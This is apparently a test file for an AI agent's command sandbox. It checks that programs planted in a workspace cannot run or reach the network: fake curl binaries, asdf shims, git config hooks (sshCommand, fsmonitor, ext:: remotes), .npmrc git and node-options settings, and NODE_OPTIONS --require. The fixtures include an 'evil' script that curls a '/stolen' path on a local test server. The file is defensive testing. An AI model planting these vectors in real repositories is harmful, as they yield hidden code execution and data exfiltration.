import { chmodSync, mkdirSync, symlinkSync } from "node:fs";
import { createServer } from "node:http";
import { join } from "node:path";
import { analyseCommand } from "@gennai/governance/command/analyse-command";
import { listening } from "@gennai/testkit/listening";
import { temporaryDirectory, temporaryRepository } from "@gennai/testkit/temporary-repository";
import { expect, test } from "vitest";
import { programHere } from "#run/program-here";
import { stagingMachine } from "../staging-machine.ts";

/** A host that was allowed long before, and what reaches it. */
async function allowedHost() {
  const reached: string[] = [];
  const server = createServer(({ url = "" }, response) => {
    reached.push(url);
    response.end("page");
  });
  const { port } = await listening(server);
  const url = `http://127.0.0.1:${port}`;
  return {
    url,
    reached,
    allowed: [{ host: "127.0.0.1", port }],
    /** Of the workspace: whoever runs it sends something out. */
    evil: `#!/bin/sh\n/usr/bin/curl -sS --max-time 5 ${url}/stolen\n`,
    [Symbol.dispose]: () => void server.close(),
  };
}

test("a program of the workspace that has the name of the one that was allowed does not run", async () => {
  using host = await allowedHost();
  await using workspace = await temporaryDirectory({
    ".venv/bin/curl": host.evil,
    "node_modules/.bin/curl": host.evil,
  });
  await using elsewhere = await temporaryDirectory();
  for (const place of [".venv/bin/curl", "node_modules/.bin/curl"]) chmodSync(join(workspace.root, place), 0o755);
  symlinkSync(join(workspace.root, ".venv"), join(elsewhere.root, "venv"));
  const first = [
    join(workspace.root, "node_modules/.bin"),
    join(workspace.root, ".venv/bin"),
    `${elsewhere.root}/venv/bin`,
  ];
  for (const directory of first) {
    await using machine = await stagingMachine(undefined, {}, `${directory}:.venv/bin:${process.env["PATH"]}`);
    const staged = await machine.run(workspace.root, `curl -sS ${host.url}/page`, true, undefined, host.allowed);
    expect(staged.run.output).toContain("page");
    await staged.drop();
  }
  expect(host.reached).toEqual(["/page", "/page", "/page"]);
});

test("a program that is a shim gets no lasting way out, and one beside it is found without it", async () => {
  using host = await allowedHost();
  await using workspace = await temporaryDirectory({ "evil/curl": host.evil, ".tool-versions": "curl path:evil\n" });
  chmodSync(workspace.path("evil/curl"), 0o755);
  await using home = await temporaryDirectory({ ".asdf/shims/curl": "#!/bin/sh\nexec ./evil/curl\n" });
  chmodSync(home.path(".asdf/shims/curl"), 0o755);
  const place = { cwd: workspace.root, workspaceRoot: workspace.root };
  const command = analyseCommand("curl -sS x.example", { ...place, workspace: workspace.root, home: home.root });
  const lasts = (PATH: string) => programHere(command, { ...place, environment: { PATH } }).lasting;
  const shims = home.path(".asdf/shims");
  expect([lasts(`${shims}:${home.root}`), lasts(`${shims}:/usr/bin`)]).toEqual([false, true]);
  await using machine = await stagingMachine(undefined, {}, `${shims}:${process.env["PATH"]}`, home.root);
  const staged = await machine.run(workspace.root, `curl -sS ${host.url}/page`, false, undefined, host.allowed);
  await staged.drop();
  expect(host.reached).toEqual(["/page"]);
});

test("git obeys no program that the repository names, and takes nothing for a bare one", async () => {
  using host = await allowedHost();
  const programs = `[core]\nsshCommand = sh evil.sh\nfsmonitor = sh evil.sh\nalternateRefsCommand = sh evil.sh\ngitProxy = sh evil.sh\n`;
  const remotes = ["ssh://git@127.0.0.1/r.git", "git://127.0.0.1/r.git", "ext::sh evil.sh", "x::y"];
  const config = remotes.map((url, at) => `[remote "r${at}"]\nurl = ${url}\n`).join("");
  await using workspace = await temporaryRepository({ "evil.sh": host.evil });
  await workspace.write(
    ".git/config",
    `${await workspace.read(".git/config")}${programs}${config}[protocol "ext"]\nallow = always\n`,
  );
  const bare = `[core]\nrepositoryformatversion = 0\nbare = true\n${programs}${config}`;
  await using lookalike = await temporaryDirectory({
    HEAD: "ref: refs/heads/main\n",
    config: bare,
    "evil.sh": host.evil,
  });
  for (const name of ["objects", "refs"]) mkdirSync(join(lookalike.root, name));
  await using machine = await stagingMachine();
  for (const root of [workspace.root, lookalike.root]) {
    for (const at of remotes.keys()) {
      const staged = await machine.run(root, `git fetch r${at}`, true, undefined, host.allowed);
      expect(staged.run.exitCode, staged.run.output).not.toBe(0);
      await staged.drop();
    }
  }
  expect(host.reached).toEqual([]);
});

test("npm starts no git that the workspace's settings name", async () => {
  using host = await allowedHost();
  await using workspace = await temporaryDirectory({
    "evil.sh": host.evil,
    "package.json": JSON.stringify({ name: "p", dependencies: { dep: "git+file:///proc/self/cwd/dep" } }),
  });
  chmodSync(join(workspace.root, "evil.sh"), 0o755);
  const settings = `git=${workspace.path("evil.sh")}\nnode-options=--require=${workspace.path("evil.cjs")}\n`;
  await workspace.write(".npmrc", `${settings}audit=false\nfund=false\n`);
  await using machine = await stagingMachine();
  const staged = await machine.run(workspace.root, "npm install --ignore-scripts", true, undefined, host.allowed);
  await staged.drop();
  expect(host.reached).toEqual([]);
  expect(staged.run.output).toContain("dep");
});

test("a variable that the user named for commands leads a program with a way out to nothing", async () => {
  using host = await allowedHost();
  await using workspace = await temporaryDirectory({ "evil.cjs": "console.log('evil ran');" });
  const named = { NODE_OPTIONS: `--require=${workspace.path("evil.cjs")}` };
  await using machine = await stagingMachine(undefined, {}, undefined, undefined, named);
  const run = async (text: string, allowed = host.allowed) => {
    const staged = await machine.run(workspace.root, text, false, undefined, allowed);
    await staged.drop();
    return staged.run.output;
  };
  expect(await run("node -p 1", [])).toContain("evil ran");
  expect(await run("npm ping --silent")).not.toContain("evil ran");
});
